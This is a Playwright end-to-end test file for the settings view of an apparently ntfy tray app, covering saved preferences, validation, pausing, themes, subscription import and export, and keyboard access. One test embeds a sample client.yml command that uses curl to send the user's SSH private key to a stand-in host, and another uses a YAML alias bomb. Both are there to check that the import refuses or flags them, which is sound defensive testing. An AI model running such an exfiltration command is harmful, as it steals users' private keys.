import { readFile, stat } from 'node:fs/promises';
import { expect, test, type Locator, type Page } from '@playwright/test';
import type { SettingsDto, UpdateChecksDto } from '../../common/ipc.ts';
import { configSubscriptions } from '../../main/core/client-config/client-config-plan.ts';
import { parseClientConfig } from '../../main/core/client-config/client-config.ts';
import { createKeytarSecretStore } from '../../main/core/store/secrets/keytar-secret-store.ts';
import { createRecordingLogger } from '../fakes/logger.ts';
import { startTestServer, type TestServer } from '../server/index.ts';
import { startWebBridge, type WebBridge } from '../web-bridge/server.ts';
import { DOCS_PICTURE, docsScreenshot } from './support/docs-screenshot.ts';

// The settings view driven through the UI only, against the real core behind the dev:web bridge. Settings are
// global, so every test gets a core of its own (fresh data folder); the ntfy test server is shared.

let ntfy: TestServer;
let bridge: WebBridge;

test.beforeAll(async () => {
  ntfy = await startTestServer();
});

test.afterAll(async () => {
  await ntfy.close();
});

/** The bridge this test started, if it got that far (so a failed start does not close the last test's again). */
let running: WebBridge | undefined;

test.beforeEach(async () => {
  bridge = await startWebBridge({ ntfyServerUrl: ntfy.url, log: createRecordingLogger('web-bridge') });
  running = bridge;
});

test.afterEach(async () => {
  await running?.close();
  running = undefined;
});

async function coreSettings(): Promise<SettingsDto> {
  const result = await bridge.core.service.getSettings();
  if (!result.ok) throw new Error(result.error.message);
  return result.value;
}

async function openSettings(page: Page): Promise<void> {
  await page.goto(bridge.url);
  await page.getByRole('navigation', { name: 'Views' }).getByRole('button', { name: 'Settings' }).click();
  await expect(page.getByRole('heading', { name: 'Settings' })).toBeVisible();
  await expect(page.getByLabel('Default server')).toBeVisible();
}

function group(page: Page, name: string) {
  return page.getByRole('group', { name, exact: true });
}

/** The core's value, asked until it matches (the save is asynchronous), as the assertion. */
async function expectCore<T>(read: (settings: SettingsDto) => T, expected: T): Promise<void> {
  await expect.poll(async () => read(await coreSettings())).toEqual(expected);
}

test('each kind of setting is saved to the core and survives a reload', async ({ page }) => {
  await openSettings(page);

  const server = group(page, 'Server');
  await server.getByLabel('Default server').fill('http://127.0.0.1:9/NTFY-base/');
  await server.getByLabel('Default server').press('Enter');
  await expect(server.getByRole('status')).toHaveText('Saved');
  await expectCore((s) => s.defaultServer, 'http://127.0.0.1:9/NTFY-base');
  await expect(server.getByLabel('Default server')).toHaveValue('http://127.0.0.1:9/NTFY-base');

  const notifications = group(page, 'Notifications');
  await notifications.getByRole('switch', { name: 'Show notifications' }).click();
  await expectCore((s) => s.preferences.notificationsEnabled, false);
  await notifications.getByRole('checkbox', { name: 'Play a sound' }).click();
  await expectCore((s) => s.preferences.sounds, false);
  await notifications.getByLabel('Minimum priority').selectOption({ label: 'High and above' });
  await expectCore((s) => s.preferences.minPriority, 4);
  await expect(notifications.getByRole('status')).toHaveText('Saved');

  const quiet = group(page, 'Quiet hours');
  await quiet.getByRole('checkbox', { name: 'No popups during quiet hours' }).click();
  await expectCore((s) => s.preferences.quietHours.enabled, true);
  await quiet.getByLabel('Starts at').fill('21:30');
  await quiet.getByLabel('Starts at').blur(); // saved when it loses focus
  await expectCore((s) => s.preferences.quietHours.start, '21:30');
  await quiet.getByLabel('Ends at').fill('06:15');
  await quiet.getByLabel('Ends at').press('Enter');
  await expectCore((s) => s.preferences.quietHours.end, '06:15');
  await quiet.getByRole('checkbox', { name: 'Urgent messages break through' }).click();
  await expectCore((s) => s.preferences.quietHours.urgentBreaksThrough, false);
  await expect(quiet.getByRole('status')).toHaveText('Saved');

  await group(page, 'Startup').getByRole('switch', { name: 'Start ntfy Tray when I log in' }).click();
  await expectCore((s) => s.preferences.startAtLogin, true);
  await expect(group(page, 'Startup').getByRole('status')).toHaveText('Saved');

  const history = group(page, 'History');
  await history.getByLabel('Days to keep messages').fill('90');
  await history.getByLabel('Days to keep messages').press('Enter');
  await expectCore((s) => s.preferences.historyRetention.maxAgeDays, 90);
  await history.getByLabel('Messages to keep per subscription').fill('500');
  await history.getByLabel('Messages to keep per subscription').blur();
  await expectCore((s) => s.preferences.historyRetention.maxPerSubscription, 500);
  await expect(history.getByRole('status')).toHaveText('Saved');

  await group(page, 'Theme').getByRole('radio', { name: 'Light' }).check();
  await expectCore((s) => s.preferences.theme, 'light');

  expect((await coreSettings()).preferences).toEqual({
    notificationsEnabled: false,
    quietHours: { enabled: true, start: '21:30', end: '06:15', urgentBreaksThrough: false },
    sounds: false,
    minPriority: 4,
    startAtLogin: true,
    theme: 'light',
    historyRetention: { maxAgeDays: 90, maxPerSubscription: 500 },
    keepaliveTimeoutSeconds: 90,
    autoDownloadAttachments: 'subscription-server',
    autoDownloadMaxBytes: 2_097_152,
    checkForUpdates: true,
    unifiedPushEnabled: true,
  });

  await page.reload();
  await page.getByRole('navigation', { name: 'Views' }).getByRole('button', { name: 'Settings' }).click();
  await expect(page.getByLabel('Default server')).toHaveValue('http://127.0.0.1:9/NTFY-base');
  await expect(page.getByRole('switch', { name: 'Show notifications' })).not.toBeChecked();
  await expect(page.getByRole('checkbox', { name: 'Play a sound' })).not.toBeChecked();
  await expect(page.getByLabel('Minimum priority')).toHaveValue('4');
  await expect(page.getByRole('checkbox', { name: 'No popups during quiet hours' })).toBeChecked();
  await expect(page.getByLabel('Starts at')).toHaveValue('21:30');
  await expect(page.getByLabel('Ends at')).toHaveValue('06:15');
  await expect(page.getByRole('checkbox', { name: 'Urgent messages break through' })).not.toBeChecked();
  await expect(page.getByRole('switch', { name: 'Start ntfy Tray when I log in' })).toBeChecked();
  await expect(page.getByLabel('Days to keep messages')).toHaveValue('90');
  await expect(page.getByLabel('Messages to keep per subscription')).toHaveValue('500');
  await expect(page.getByRole('radio', { name: 'Light' })).toBeChecked();
});

test('refused values are explained next to their field and not saved', async ({ page }) => {
  await openSettings(page);
  const history = group(page, 'History');
  const days = history.getByLabel('Days to keep messages');

  await days.fill('0');
  await days.press('Enter');
  await expect(days).toHaveAccessibleDescription(/^must be a whole number from 1 to 3650/);
  await expect(days).toHaveAttribute('aria-invalid', 'true');
  await expect(days).toHaveValue('0'); // the refused text stays for fixing
  await expect(history.getByRole('status')).toHaveText('Not saved');
  expect((await coreSettings()).preferences.historyRetention.maxAgeDays).toBe(30);

  const perSubscription = history.getByLabel('Messages to keep per subscription');
  await perSubscription.fill('5');
  await perSubscription.press('Enter');
  await expect(perSubscription).toHaveAccessibleDescription(/^must be a whole number from 10 to 1000000/);
  expect((await coreSettings()).preferences.historyRetention.maxPerSubscription).toBe(10_000);

  // Fixing the value clears the message and saves.
  await days.fill('45');
  await days.press('Enter');
  await expectCore((s) => s.preferences.historyRetention.maxAgeDays, 45);
  await expect(days).not.toHaveAttribute('aria-invalid');
  await expect(days).toHaveAccessibleDescription('1 to 3,650 days');
  await expect(perSubscription).toHaveAttribute('aria-invalid', 'true');

  const serverField = page.getByLabel('Default server');
  await serverField.fill('ftp://example.com');
  await serverField.press('Enter');
  await expect(serverField).toHaveAccessibleDescription(/^must be an http or https URL/);
  expect((await coreSettings()).defaultServer).toBe(ntfy.url);

  // Quiet hours must start and end at different times; the core names the end.
  const quiet = group(page, 'Quiet hours');
  await quiet.getByLabel('Ends at').fill('22:00');
  await quiet.getByLabel('Ends at').press('Enter');
  await expect(quiet.getByLabel('Ends at')).toHaveAccessibleDescription(/^must differ from start/);
  expect((await coreSettings()).preferences.quietHours.end).toBe('07:00');
});

test('pause shows until when, survives a reload, and resume clears it', async ({ page }) => {
  await openSettings(page);
  const pause = group(page, 'Pause notifications');
  const state = pause.getByRole('status');
  await expect(state).toHaveText('Notifications are not paused');
  await expect(pause.getByRole('button', { name: 'Resume', exact: true })).toHaveCount(0);

  const before = Date.now();
  await pause.getByRole('button', { name: 'Pause for 1 hour' }).click();
  await expect(state).toHaveText(/^Paused until /);
  const pausedUntil = (await coreSettings()).pausedUntil;
  if (typeof pausedUntil !== 'number') throw new Error(`expected a timed pause, got ${String(pausedUntil)}`);
  expect(pausedUntil).toBeGreaterThanOrEqual(before + 60 * 60_000);
  expect(pausedUntil).toBeLessThanOrEqual(Date.now() + 60 * 60_000);
  // The locale's own clock time (no forced 24-hour clock), with the weekday when the hour ends after midnight.
  const clock = await page.evaluate(
    ({ at, now }) =>
      new Intl.DateTimeFormat(
        undefined,
        new Date(at).toDateString() === new Date(now).toDateString()
          ? { timeStyle: 'short' }
          : { weekday: 'short', hour: 'numeric', minute: '2-digit' },
      ).format(at),
    { at: pausedUntil, now: before },
  );
  await expect(state).toHaveText(`Paused until ${clock}`);

  await pause.getByRole('button', { name: 'Resume', exact: true }).click();
  await expect(state).toHaveText('Notifications are not paused');
  expect((await coreSettings()).pausedUntil).toBeUndefined();
  await expect(pause.getByRole('button', { name: 'Pause for 1 hour' })).toBeFocused();

  await pause.getByRole('button', { name: 'Pause until I resume' }).click();
  await expect(state).toHaveText('Paused until resumed');
  expect((await coreSettings()).pausedUntil).toBeNull();

  await page.reload();
  await page.getByRole('navigation', { name: 'Views' }).getByRole('button', { name: 'Settings' }).click();
  await expect(group(page, 'Pause notifications').getByRole('status')).toHaveText('Paused until resumed');
  await group(page, 'Pause notifications').getByRole('button', { name: 'Resume', exact: true }).click();
  await expect(group(page, 'Pause notifications').getByRole('status')).toHaveText('Notifications are not paused');
  expect((await coreSettings()).pausedUntil).toBeUndefined();
});

test('follows changes made elsewhere (the tray, another window)', async ({ page }) => {
  await openSettings(page);
  await bridge.core.handleTrayCommand({ type: 'pause', minutes: 'until-resumed' });
  // A pause alone changes no setting; the next settings change carries it to every window.
  const updated = await bridge.core.service.updateSettings({
    preferences: { minPriority: 5, historyRetention: { maxAgeDays: 7 } },
  });
  expect(updated.ok).toBe(true);
  await expect(page.getByLabel('Minimum priority')).toHaveValue('5');
  await expect(page.getByLabel('Days to keep messages')).toHaveValue('7');
  await expect(group(page, 'Pause notifications').getByRole('status')).toHaveText('Paused until resumed');
});

test('the dark theme applies to the page and survives a reload', async ({ page }) => {
  await openSettings(page);
  const theme = group(page, 'Theme');
  await expect(theme.getByRole('radio', { name: 'Same as the system' })).toBeChecked();
  await expect(page.locator('html')).not.toHaveAttribute('data-theme');

  await theme.getByRole('radio', { name: 'Dark' }).check();
  await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
  await expectCore((s) => s.preferences.theme, 'dark');

  await page.reload();
  await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
  await page.getByRole('navigation', { name: 'Views' }).getByRole('button', { name: 'Settings' }).click();
  await expect(group(page, 'Theme').getByRole('radio', { name: 'Dark' })).toBeChecked();

  await group(page, 'Theme').getByRole('radio', { name: 'Same as the system' }).check();
  await expect(page.locator('html')).not.toHaveAttribute('data-theme');
  await expectCore((s) => s.preferences.theme, 'system');
});

test('export downloads the subscriptions as JSON, without any secret', async ({ page }) => {
  const password = 'correct-horse-battery-staple-41';
  const token = 'tk_settingsexportsecret0000000';
  for (const input of [
    {
      server: ntfy.url,
      topic: 'export-backups',
      displayName: 'Backups',
      filters: { priority: ['high', 'urgent'] },
      muted: true,
      minPriority: 2 as const,
    },
    { server: 'https://ntfy.example.com', topic: 'export-alerts', transport: 'sse' as const },
  ]) {
    const saved = await bridge.core.service.saveSubscription(input);
    expect(saved.ok).toBe(true);
  }
  const basic = await bridge.core.service.setCredentials({ server: ntfy.url, kind: 'basic', user: 'alice', password });
  const bearer = await bridge.core.service.setCredentials({ server: 'https://ntfy.example.com', kind: 'token', token });
  expect([basic.ok, bearer.ok]).toEqual([true, true]);

  try {
    await openSettings(page);
    const files = group(page, 'Subscriptions');
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      files.getByRole('button', { name: 'Export subscriptions' }).click(),
    ]);
    expect(download.suggestedFilename()).toBe('ntfy-tray-subscriptions.json');
    const text = await readFile(await download.path(), 'utf8');
    expect(JSON.parse(text)).toEqual({
      format: 'ntfy-tray-subscriptions',
      version: 1,
      subscriptions: [
        {
          server: ntfy.url,
          topic: 'export-backups',
          displayName: 'Backups',
          transport: 'json',
          filters: { priority: ['high', 'urgent'] },
          muted: true,
          minPriority: 2,
        },
        {
          server: 'https://ntfy.example.com',
          topic: 'export-alerts',
          transport: 'sse',
          filters: {},
          muted: false,
          minPriority: 1,
        },
      ],
    });
    expect(text).not.toContain(password);
    expect(text).not.toContain(token);
    expect(text).not.toContain('alice');
    await expect(files.getByRole('status')).toHaveText('Exported 2 subscriptions to ntfy-tray-subscriptions.json.');
  } finally {
    // The dev bridge may be using a real keychain (under its own service name); leave nothing behind.
    await bridge.core.service.clearCredentials(ntfy.url);
    await bridge.core.service.clearCredentials('https://ntfy.example.com');
  }
});

async function subscriptionsInCore() {
  const result = await bridge.core.service.listSubscriptions();
  if (!result.ok) throw new Error(result.error.message);
  return result.value;
}

test('import JSON creates the subscriptions, skipping existing ones and explaining failures', async ({ page }) => {
  const existing = await bridge.core.service.saveSubscription({ server: ntfy.url, topic: 'json-existing' });
  expect(existing.ok).toBe(true);
  const file = {
    format: 'ntfy-tray-subscriptions',
    version: 1,
    subscriptions: [
      { server: ntfy.url, topic: 'json-existing' },
      {
        server: ntfy.url,
        topic: 'json-new',
        displayName: 'New one',
        transport: 'ws',
        filters: { tags: ['disk'] },
        muted: true,
        minPriority: 4,
      },
      { server: `${ntfy.url}/`, topic: 'json-second' },
      { server: ntfy.url, topic: 'bad topic!' },
      { server: ntfy.url, topic: 'json-long-id', filters: { id: 'x'.repeat(100) } },
    ],
  };
  await openSettings(page);
  const files = group(page, 'Subscriptions');
  await files.getByLabel('Import subscriptions (JSON)').setInputFiles({
    name: 'subscriptions.json',
    mimeType: 'application/json',
    buffer: Buffer.from(JSON.stringify(file, null, 2)),
  });

  const report = files.getByRole('status');
  await expect(report).toContainText('Imported 2, skipped 1 (already subscribed), 2 failed: ');
  await expect(report).toContainText('item 4 (bad topic!): topic must be 1-64 characters of A-Z a-z 0-9 _ -');
  await expect(report).toContainText('item 5 (json-long-id): id filter is too long');

  const subscriptions = await subscriptionsInCore();
  expect(subscriptions.map((item) => item.topic)).toEqual(['json-existing', 'json-new', 'json-second']);
  expect(subscriptions[1]).toMatchObject({
    server: ntfy.url,
    topic: 'json-new',
    displayName: 'New one',
    transport: 'ws',
    filters: { tags: ['disk'] },
    muted: true,
    minPriority: 4,
  });

  // The same file again: everything readable is there already.
  await files.getByLabel('Import subscriptions (JSON)').setInputFiles({
    name: 'subscriptions.json',
    mimeType: 'application/json',
    buffer: Buffer.from(JSON.stringify(file)),
  });
  await expect(report).toContainText('Imported 0, skipped 3 (already subscribed), 2 failed: ');
  expect(await subscriptionsInCore()).toHaveLength(3);

  await files.getByLabel('Import subscriptions (JSON)').setInputFiles({
    name: 'notes.json',
    mimeType: 'application/json',
    buffer: Buffer.from('{"subscriptions": ['),
  });
  await expect(report).toContainText('Nothing imported: notes.json is not valid JSON');
  expect(await subscriptionsInCore()).toHaveLength(3);
});

/** The keychain the dev bridge uses (its own service name), read directly: the import must have used the real one. */
const devKeychain = createKeytarSecretStore({ log: createRecordingLogger('keychain'), service: 'ntfy-tray-dev-web' });

test('import from client.yml keeps filters, commands and each entry’s own credentials (in the keychain), default-host the default', async ({
  page,
}) => {
  const existing = await bridge.core.service.saveSubscription({ server: ntfy.url, topic: 'cli-existing' });
  expect(existing.ok).toBe(true);
  const host = new URL(ntfy.url).host;
  const clientYml = `# ~/.config/ntfy/client.yml
default-host: ${ntfy.url}

subscribe:
  - topic: cli-alerts
    user: phil
    password: cli-yml-password-77
  - topic: ${ntfy.url}/cli-urgent
    command: notify-send "$m"
    if:
      priority: high,urgent
      ta: disk
  - topic: ${host}/cli-no-scheme
    token: tk_cli_yml_token_42
  - topic: cli-existing
  - topic: not a topic
`;
  try {
    await openSettings(page);
    const files = group(page, 'Subscriptions');
    await files.getByLabel('Import from ntfy CLI client.yml').setInputFiles({
      name: 'client.yml',
      mimeType: 'application/yaml',
      buffer: Buffer.from(clientYml),
    });

    // The one command waits for the user: accepted here (the review's own test is below).
    const review = files.getByRole('region', { name: 'Commands in client.yml' });
    await review.getByRole('checkbox', { name: 'Accept the command of client.yml, subscribe entry 2' }).check();
    await review.getByRole('button', { name: 'Import with 1 accepted command' }).click();
    const report = files.getByRole('status');
    await expect(report).toContainText(
      'Imported 3, skipped 1 (already subscribed), 1 failed: client.yml, subscribe entry 5:',
    );
    // Each entry's own credentials are its subscription's, not its server's (the file has no defaults).
    await expect(report).not.toContainText('Credentials saved in the keychain');
    await expect(report).toContainText('1 subscription runs a command for each message.');
    await expect(report).toContainText(`The default server is now ${ntfy.url}.`);
    expect(await page.content()).not.toContain('cli-yml-password-77');

    const subscriptions = await subscriptionsInCore();
    expect(
      subscriptions.map(({ server, topic, filters, command, auth, ownCredentials }) => ({
        server,
        topic,
        filters,
        command,
        auth,
        ownCredentials,
      })),
    ).toEqual([
      {
        server: ntfy.url,
        topic: 'cli-existing',
        filters: {},
        command: undefined,
        auth: 'none',
        ownCredentials: undefined,
      },
      {
        server: ntfy.url,
        topic: 'cli-alerts',
        filters: {},
        command: undefined,
        auth: 'none',
        ownCredentials: { auth: 'basic', user: 'phil', hasSecret: true },
      },
      {
        server: ntfy.url,
        topic: 'cli-urgent',
        filters: { priority: ['high', 'urgent'], tags: ['disk'] },
        command: 'notify-send "$m"',
        auth: 'none',
        ownCredentials: undefined,
      },
      // A host without a scheme means https, as in the ntfy CLI.
      {
        server: `https://${host}`,
        topic: 'cli-no-scheme',
        filters: {},
        command: undefined,
        auth: 'none',
        ownCredentials: { auth: 'token', hasSecret: true },
      },
    ]);
    // In the OS keychain itself (scripts/test-session.sh runs one), not a stand-in, under each subscription.
    const idOf = (topic: string): string => subscriptions.find((item) => item.topic === topic)?.id ?? '';
    expect(
      await devKeychain.get({ server: ntfy.url, kind: 'password', user: 'phil', subscription: idOf('cli-alerts') }),
    ).toBe('cli-yml-password-77');
    expect(
      await devKeychain.get({ server: `https://${host}`, kind: 'token', subscription: idOf('cli-no-scheme') }),
    ).toBe('tk_cli_yml_token_42');
    // The window says which credentials apply where they are a subscription's own.
    await page.getByRole('navigation', { name: 'Views' }).getByRole('button', { name: 'Subscriptions' }).click();
    const rows = page.getByRole('main').getByRole('listitem');
    await expect(rows.filter({ hasText: 'cli-alerts' })).toContainText('signs in as phil (its own, not the server’s)');
    await expect(rows.filter({ hasText: 'cli-no-scheme' })).toContainText('its own access token (not the server’s)');
    await expect(rows.filter({ hasText: 'cli-urgent' })).not.toContainText('its own');
    await openSettings(page);
    expect((await coreSettings()).defaultServer).toBe(ntfy.url);

    // Without default-host, bare topics go to the app's default server.
    await files.getByLabel('Import from ntfy CLI client.yml').setInputFiles({
      name: 'client.yml',
      mimeType: 'application/yaml',
      buffer: Buffer.from('subscribe:\n  - topic: cli-default\n'),
    });
    await expect(report).toHaveText('Imported 1, skipped 0 (already subscribed), 0 failed.');
    expect((await subscriptionsInCore()).at(-1)).toMatchObject({ server: ntfy.url, topic: 'cli-default' });

    await files.getByLabel('Import from ntfy CLI client.yml').setInputFiles({
      name: 'broken.yml',
      mimeType: 'application/yaml',
      buffer: Buffer.from('subscribe:\n  - topic: "unclosed\n'),
    });
    await expect(report).toContainText('Nothing imported: broken.yml is not valid YAML');
    expect(await subscriptionsInCore()).toHaveLength(5);
  } finally {
    await bridge.core.service.clearCredentials(ntfy.url);
    await bridge.core.service.clearCredentials(`https://${host}`);
  }
});

/** Picks a client.yml in the Subscriptions group's import field, as a user does. */
async function chooseClientYml(files: Locator, name: string, text: string): Promise<void> {
  await files.getByLabel('Import from ntfy CLI client.yml').setInputFiles({
    name,
    mimeType: 'application/yaml',
    buffer: Buffer.from(text),
  });
}

test('a client.yml review lists each command verbatim; nothing is stored before the choice; accepted and refused ones', async ({
  page,
}) => {
  const accepted = 'notify-send "$t" "$m"';
  const refused = 'curl -s https://collect.example/ -d "$(cat ~/.ssh/id_ed25519)"\necho \'done\'';
  const clientYml = `default-host: ${ntfy.url}
subscribe:
  - topic: review-ok
    command: ${accepted}
  - topic: review-evil
    command: |-
      ${refused.split('\n').join('\n      ')}
  - topic: review-plain
`;
  await openSettings(page);
  const files = group(page, 'Subscriptions');
  await chooseClientYml(files, 'client.yml', clientYml);
  const review = files.getByRole('region', { name: 'Commands in client.yml' });
  const items = review.getByRole('listitem');
  await expect(items).toHaveCount(2);
  // Verbatim: every character of each command, line breaks and quotes included.
  await expect(items.nth(0).locator('code')).toHaveText(accepted, { useInnerText: false });
  expect(await items.nth(1).locator('code').textContent()).toBe(refused);
  await expect(items.nth(1)).toContainText(`Subscribes to review-evil on ${ntfy.url}; runs:`);
  await expect(files.getByRole('status')).toHaveText(
    'Nothing imported yet: read the commands of client.yml below and choose.',
  );
  expect(await subscriptionsInCore()).toEqual([]);
  await expect(review.getByRole('button', { name: 'Import without commands' })).toBeVisible();

  await review.getByRole('checkbox', { name: 'Accept the command of client.yml, subscribe entry 1' }).check();
  await review.getByRole('button', { name: 'Import with 1 accepted command' }).click();
  const report = files.getByRole('status');
  await expect(report).toContainText('Imported 3, skipped 0 (already subscribed), 0 failed.');
  await expect(report).toContainText('1 subscription runs a command for each message.');
  await expect(report).toContainText('1 subscription was imported without its command (not accepted).');
  await expect(review).toHaveCount(0);
  expect((await subscriptionsInCore()).map(({ topic, command }) => ({ topic, command }))).toEqual([
    { topic: 'review-ok', command: accepted },
    { topic: 'review-evil', command: undefined },
    { topic: 'review-plain', command: undefined },
  ]);

  // Cancel stores nothing at all; "accept all" is one confirmation for every command.
  const again = `subscribe:\n  - topic: ${ntfy.url}/again-a\n    command: echo a\n  - topic: ${ntfy.url}/again-b\n    command: echo b\n`;
  await chooseClientYml(files, 'again.yml', again);
  await files
    .getByRole('region', { name: 'Commands in again.yml' })
    .getByRole('button', { name: 'Cancel import' })
    .click();
  await expect(report).toHaveText('Import of again.yml canceled: nothing was stored.');
  expect(await subscriptionsInCore()).toHaveLength(3);
  await chooseClientYml(files, 'again.yml', again);
  await files
    .getByRole('region', { name: 'Commands in again.yml' })
    .getByRole('button', { name: 'Accept all 2 commands and import' })
    .click();
  await expect(report).toContainText('2 subscriptions run a command for each message.');
  expect((await subscriptionsInCore()).slice(3).map(({ topic, command }) => ({ topic, command }))).toEqual([
    { topic: 'again-a', command: 'echo a' },
    { topic: 'again-b', command: 'echo b' },
  ]);
});

test('a client.yml over the limit or an alias bomb is refused whole, saying why', async ({ page }) => {
  await openSettings(page);
  const files = group(page, 'Subscriptions');
  const over = `subscribe:\n${Array.from({ length: 1001 }, (_, index) => `  - topic: t${index}\n`).join('')}`;
  await chooseClientYml(files, 'big.yml', over);
  const report = files.getByRole('status');
  await expect(report).toHaveText(
    'Nothing imported: the file names 1,001 subscriptions; one import takes at most 1,000. Split the file.',
  );
  const bomb =
    'a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nsubscribe: [*c]\n';
  await chooseClientYml(files, 'bomb.yml', bomb);
  await expect(report).toHaveText(
    'Nothing imported: bomb.yml uses YAML aliases (*name) that expand too far (an alias bomb): write the values out instead.',
  );
  expect(await subscriptionsInCore()).toEqual([]);
});

test("export as client.yml writes what ntfy's CLI reads; passwords and tokens only when ticked", async ({ page }) => {
  const token = 'tk_export_yml_token_9';
  const saved = [
    await bridge.core.service.saveSubscription({
      server: ntfy.url,
      topic: 'yml-alerts',
      command: 'notify-send "$t" "$m"',
      filters: { priority: ['high', '5'], tags: ['disk'] },
    }),
    await bridge.core.service.saveSubscription({ server: 'https://ntfy.example.com/base', topic: 'yml-other' }),
    await bridge.core.service.setCredentials({ server: 'https://ntfy.example.com/base', kind: 'token', token }),
  ];
  expect(saved.every((result) => result.ok)).toBe(true);
  try {
    await openSettings(page);
    const files = group(page, 'Subscriptions');
    const report = files.getByRole('status');
    const exportedPath = async (): Promise<string> => {
      const text = (await report.textContent()) ?? '';
      const match = /Exported 2 subscriptions to (.+\.yml)\./.exec(text);
      if (match?.[1] === undefined) throw new Error(`no export in: ${text}`);
      return match[1];
    };

    await files.getByRole('button', { name: 'Export as ntfy CLI client.yml' }).click();
    await expect(report).toContainText('Exported 2 subscriptions to');
    const plain = await readFile(await exportedPath(), 'utf8');
    expect(plain).not.toContain(token);
    const parsed = parseClientConfig(plain);
    if (!parsed.ok) throw new Error(JSON.stringify(parsed.problem));
    const options = { path: 'client.yml', transport: 'json', authVia: 'header', scheduled: false } as const;
    const reread = configSubscriptions(parsed.config, options);
    expect(reread.ok && reread.value).toEqual([
      {
        server: ntfy.url,
        topic: 'yml-alerts',
        transport: 'json',
        filters: { priority: ['high', '5'], tags: ['disk'] },
        credentials: { kind: 'none' },
        authVia: 'header',
        scheduled: false,
        command: 'notify-send "$t" "$m"',
      },
      {
        server: 'https://ntfy.example.com/base',
        topic: 'yml-other',
        transport: 'json',
        filters: {},
        credentials: { kind: 'none' },
        authVia: 'header',
        scheduled: false,
      },
    ]);
    expect(parsed.config.defaultHost).toBe(ntfy.url);

    await files.getByRole('checkbox', { name: 'Include passwords and tokens' }).check();
    await files.getByRole('button', { name: 'Export as ntfy CLI client.yml' }).click();
    await expect(report).toContainText('The file holds passwords or tokens: keep it private.');
    const path = await exportedPath();
    const withSecrets = parseClientConfig(await readFile(path, 'utf8'));
    expect(withSecrets.ok && withSecrets.config.subscribe.map((entry) => entry.token)).toEqual([undefined, token]);
    expect((await stat(path)).mode & 0o777).toBe(0o600);
    expect(await page.content()).not.toContain(token);
  } finally {
    await bridge.core.service.clearCredentials('https://ntfy.example.com/base');
  }
});

interface ProbedElement {
  setAttribute(name: string, value: string): void;
  removeAttribute(name: string): void;
}

/** What the page needs for the focus probe (these tests have no DOM types; the function runs in the page). */
interface FocusProbePage {
  readonly document: {
    readonly activeElement: ProbedElement | null;
    querySelector(selector: string): ProbedElement | null;
  };
}

/**
 * The focused control as the accessibility tree names it. `:focus` cannot be used: inside a time input, focus sits
 * on a segment in the browser's own shadow tree, while document.activeElement is still the input.
 */
async function focusedControl(page: Page): Promise<string> {
  await page.evaluate(() => {
    const { document } = globalThis as unknown as FocusProbePage;
    document.querySelector('[data-focus-probe]')?.removeAttribute('data-focus-probe');
    document.activeElement?.setAttribute('data-focus-probe', '');
  });
  return page.locator('[data-focus-probe]').ariaSnapshot();
}

test('every control is reachable and usable with the keyboard alone', async ({ page }) => {
  await openSettings(page);
  const settingsButton = page.getByRole('navigation', { name: 'Views' }).getByRole('button', { name: 'Settings' });
  await settingsButton.focus();

  // Tab from the navigation through the form until the theme radios; every stop is a named control.
  const systemTheme = page.getByRole('radio', { name: 'Same as the system' });
  const stops: string[] = [];
  for (let step = 0; step < 40 && !(stops.at(-1) ?? '').startsWith('- radio "Same as the system"'); step++) {
    await page.keyboard.press('Tab');
    stops.push(await focusedControl(page));
  }
  await expect(systemTheme).toBeFocused();
  for (const control of [
    '- textbox "Default server"',
    '- switch "Show notifications"',
    '- checkbox "Play a sound"',
    '- combobox "Minimum priority"',
    '- button "Pause for 1 hour"',
    '- checkbox "No popups during quiet hours"',
    '- switch "Start ntfy Tray when I log in"',
    '- spinbutton "Days to keep messages"',
    '- spinbutton "Messages to keep per subscription"',
  ]) {
    expect(stops.some((stop) => stop.startsWith(control))).toBe(true);
  }
  expect(stops.filter((stop) => !/^- \w+ "[^"]+"/.test(stop))).toEqual([]);

  await page.keyboard.press('ArrowDown');
  await expect(page.getByRole('radio', { name: 'Light' })).toBeFocused();
  await expect(page.getByRole('radio', { name: 'Light' })).toBeChecked();
  await expectCore((s) => s.preferences.theme, 'light');
  await page.keyboard.press('ArrowDown');
  await expect(page.getByRole('radio', { name: 'Dark' })).toBeChecked();
  await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
  await expectCore((s) => s.preferences.theme, 'dark');

  // A switch flips with Space, a number saves with Enter.
  await page.getByRole('switch', { name: 'Show notifications' }).focus();
  await page.keyboard.press('Space');
  await expectCore((s) => s.preferences.notificationsEnabled, false);
  await page.getByLabel('Days to keep messages').focus();
  await page.keyboard.press('ControlOrMeta+A');
  await page.keyboard.type('14');
  await page.keyboard.press('Enter');
  await expectCore((s) => s.preferences.historyRetention.maxAgeDays, 14);
});

for (const colorScheme of ['light', 'dark'] as const) {
  // Axe checks Settings in this state in axe-views.spec.ts; here only its picture for docs/ is taken.
  test(
    `is captured for the docs with a pause, a refused value, Saved and an import report (${colorScheme})`,
    { tag: DOCS_PICTURE },
    async ({ page }) => {
      await page.emulateMedia({ colorScheme });
      await openSettings(page);
      // With the states that add text: a pause, a field problem, a "Saved" and an import report.
      await page.getByRole('button', { name: 'Pause until I resume' }).click();
      await expect(page.getByRole('button', { name: 'Resume', exact: true })).toBeVisible();
      await page.getByLabel('Days to keep messages').fill('0');
      await page.getByLabel('Days to keep messages').press('Enter');
      await expect(page.getByLabel('Days to keep messages')).toHaveAttribute('aria-invalid', 'true');
      await page.getByRole('checkbox', { name: 'Play a sound' }).click();
      await expect(group(page, 'Notifications').getByRole('status')).toHaveText('Saved');
      await page.getByLabel('Import from ntfy CLI client.yml').setInputFiles({
        name: 'client.yml',
        mimeType: 'application/yaml',
        buffer: Buffer.from('subscribe:\n  - topic: axe-check\n'),
      });
      await expect(group(page, 'Subscriptions').getByRole('status')).toContainText('Imported 1');

      await docsScreenshot(page, `window-settings-${colorScheme}.png`, { fullPage: true });
    },
  );
}

/** A fresh core whose build and administrator decide about update checks as given. */
async function restartWith(updateChecks: UpdateChecksDto): Promise<void> {
  await running?.close();
  running = undefined;
  bridge = await startWebBridge({ ntfyServerUrl: ntfy.url, log: createRecordingLogger('web-bridge'), updateChecks });
  running = bridge;
}

test('a build without a release feed says it does not check for updates, and offers no switch', async ({ page }) => {
  await openSettings(page);
  const updates = group(page, 'Updates');
  await expect(updates.getByText('This build does not check for updates.')).toBeVisible();
